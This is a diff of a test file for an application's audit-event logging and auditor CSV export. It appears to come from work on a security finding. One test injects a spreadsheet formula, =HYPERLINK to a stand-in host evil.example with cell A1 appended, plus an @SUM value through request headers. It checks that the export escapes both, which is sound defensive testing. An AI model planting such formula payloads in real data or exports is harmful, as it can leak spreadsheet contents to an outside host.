@@ -92,17 +92,18 @@ describe('finding 6: audit events and the CSV', () => {
     expect(xlsx.status).toBe(200)
     await xlsx.arrayBuffer()
     const events = (await eventsAfter(start)).filter((e) => (e.detail as { view?: string } | null)?.view?.startsWith('reminders-people'))
-    expect(events.map((e) => e.operation)).toEqual(['read', 'export'])
+    // A read is chained from the outbox after the export's direct write: compare as a set.
+    expect(events.map((e) => e.operation).sort()).toEqual(['export', 'read'])
     for (const e of events) expect(e.record_ids).toBe(`.${shown.join('.')}.`)
   })
 
   test("the auditor's CSV shows a formula-like User-Agent as text", async () => {
-    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Xem ngay")'
     expect((await call('hr', 'GET', '/api/staff?limit=1&depth=0', undefined, { 'User-Agent': evil, 'X-Request-Id': '@SUM(1+1)' })).status).toBe(200)
     const csv = await fetch(`${server.url}/api/audit-events/export.csv`, { headers: { Authorization: `JWT ${tokens.auditor}` } })
     expect(csv.status).toBe(200)
     const text = await csv.text()
-    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")"`)
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Xem ngay"")"`)
     expect(text).toContain(`"'@SUM(1+1)"`)
     expect(text).not.toContain(`"=HYPERLINK`)
     expect(text).not.toContain(`"@SUM`)
